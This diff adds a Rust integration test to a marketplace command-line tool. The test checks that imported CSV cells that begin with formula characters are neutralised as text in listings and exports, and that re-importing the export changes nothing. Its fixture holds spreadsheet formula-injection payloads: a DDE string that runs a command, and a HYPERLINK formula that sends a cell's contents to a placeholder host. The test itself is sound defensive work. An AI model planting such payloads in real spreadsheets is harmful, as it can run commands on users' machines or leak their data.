@@ -94,6 +94,52 @@ async fn a_catalogue_is_imported_exported_and_imported_again() {
     assert_eq!(piped.json()["unchanged_count"], json!(3));
 }
 
+/// What a spreadsheet would run, in lists and in the file of an export.
+#[tokio::test(flavor = "multi_thread")]
+async fn formulas_become_texts_and_come_back_from_an_export() {
+    let market = market().await;
+    let alice = registered(&market).await;
+    let path = |name: &str| alice.home.path().join(name).display().to_string();
+    let formulas = concat!(
+        "sku,name,description,category,price,quantity\n",
+        "\"=cmd|' /C calc'!A0\",\"=HYPERLINK(\"\"http://example.test/?x=\"\"&A1,\"\"click\"\")\",\"@SUM(1+1)*cmd\",\"home\",1 GBP,1\n",
+        "-1+1,+CALC,-2+3,home,1 GBP,1\n-5,'=1,'quoted',home,1 GBP,1\n"
+    );
+    fs::write(path("formulas.csv"), formulas).expect("written");
+    let tally = alice.run(&["import", &path("formulas.csv"), "--output", "json"]).await.json();
+    assert_eq!(tally["created_count"], json!(3), "{tally}");
+    assert_eq!(alice.run(&["export", &path("out.csv")]).await.code, 0);
+    let listed = alice.run(&["items", "--output", "csv"]).await.out;
+    let exported = fs::read_to_string(path("out.csv")).expect("a file");
+    for file in [&listed, &exported] {
+        let mut cells = csv_cells(file);
+        assert!(cells.any(|cell| cell.starts_with("'=HYPERLINK(")), "{file}");
+        let runs = |cell: &String| cell.starts_with(['=', '+', '-', '@']) && cell != "-5";
+        assert_eq!(csv_cells(file).find(runs), None, "{file}");
+    }
+    // The items have their own names, and the file leads to them again.
+    let items = alice.run(&["items", "--output", "json"]).await.json();
+    let names: Vec<_> = items.as_array().expect("a list").iter().map(|item| item["name"].clone()).collect();
+    let expected = ["=HYPERLINK(\"http://example.test/?x=\"&A1,\"click\")", "+CALC", "=1"];
+    assert_eq!(names, expected.map(|name| json!(name)));
+    let tally = alice.run(&["import", &path("out.csv"), "--output", "json"]).await.json();
+    assert_eq!((&tally["rows"], &tally["unchanged_count"]), (&json!(3), &json!(3)), "{tally}");
+}
+
+/// Returns the cells of a file in which none spans two lines.
+fn csv_cells(text: &str) -> impl Iterator<Item = String> {
+    let mut cells = vec![String::new()];
+    let mut is_quoted = false;
+    for c in text.chars() {
+        match c {
+            '"' => is_quoted = !is_quoted,
+            ',' | '\n' if !is_quoted => cells.push(String::new()),
+            c => cells.last_mut().expect("there is always one").push(c),
+        }
+    }
+    cells.into_iter()
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn a_ride_is_started_driven_along_a_recorded_track_and_ended() {
     let market = market().await;
